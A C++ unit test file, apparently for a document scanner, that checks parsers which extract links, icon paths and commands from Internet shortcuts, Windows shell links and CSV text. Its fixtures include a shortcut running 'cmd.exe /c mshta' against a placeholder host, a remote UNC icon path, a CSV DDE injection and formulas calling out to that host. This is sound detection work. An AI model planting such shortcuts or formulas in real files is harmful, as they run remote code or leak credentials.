// SPDX-License-Identifier: Apache-2.0
#include "document/shortcut.h"

#include <gtest/gtest.h>

#include "base/testing.h"
#include "document/testing.h"

namespace redshank::document {
namespace {

TEST(Shortcut, InternetShortcuts) {
    const std::string text =
        "[InternetShortcut]\r\nURL=https://t.example/"
        "u?x=1\r\nIconFile=\\\\t.example\\s\\i.ico\r\nIconIndex=0\r\n";
    EXPECT_TRUE(is_internet_shortcut(text));
    EXPECT_FALSE(is_internet_shortcut("URL=https://t.example/"));
    const Contents contents = read_internet_shortcut(text, Limits{});
    EXPECT_EQ(
        dump(contents),
        "link https://t.example/u?x=1; image \\\\t.example\\s\\i.ico; shortcut https://t.example/u?x=1");
    EXPECT_TRUE(all_in_place(contents, text));
}

// [MS-SHLLINK] 2.1: header of 76 bytes, then the strings that the flags name.
std::string shell_link(uint32_t flags, const std::vector<std::string>& strings) {
    std::string out;
    put(out, 76, 4);
    out += std::string(16, '\x01');
    put(out, flags | 0x80, 4);
    out += std::string(52, '\0');
    for (const std::string& text : strings) {
        put(out, text.size(), 2);
        for (const char c : text) out.append({c, '\0'});
    }
    return out;
}

TEST(Shortcut, ShellLinks) {
    const std::string link =
        shell_link(8 | 32 | 64, {"..\\cmd.exe", "/c mshta https://t.example/h", "\\\\t.example\\s\\i.ico"});
    const Contents contents = read_shell_link(link, Limits{});
    EXPECT_EQ(dump(contents),
              "link https://t.example/h; image \\\\t.example\\s\\i.ico; shortcut ..\\cmd.exe /c mshta "
              "https://t.example/h");
    for (const Reference& one : contents.references) {
        EXPECT_EQ(one.length, one.value.size() * 2);
        EXPECT_EQ(link[one.offset], one.value[0]);
    }
    for (size_t length = 0; length < link.size(); ++length) {
        const ExactBytes cut(std::string_view(link).substr(0, length));
        read_shell_link(cut.view(), Limits{});
    }
}

TEST(Shortcut, SheetsInTextForm) {
    const std::pair<const char*, const char*> rows[] = {
        {"a,b\n=cmd|'/c calc'!A0,2\n", "dde =cmd|'/c calc'!A0"},
        {"a;\"=HYPERLINK(\"http://t.example/h\")\"\n", "link http://t.example/h"},
        {"+WEBSERVICE(\"http://t.example/w\")", "resource http://t.example/w"},
        {"-5,=A1+B1,@name", ""},
        {"a|b!c,http://t.example/", ""},
    };
    for (const auto& [text, expected] : rows) {
        const Contents contents = read_csv(text, Limits{});
        EXPECT_EQ(dump(contents), expected) << text;
        EXPECT_TRUE(all_in_place(contents, text)) << text;
    }
}

}  // namespace
}  // namespace redshank::document
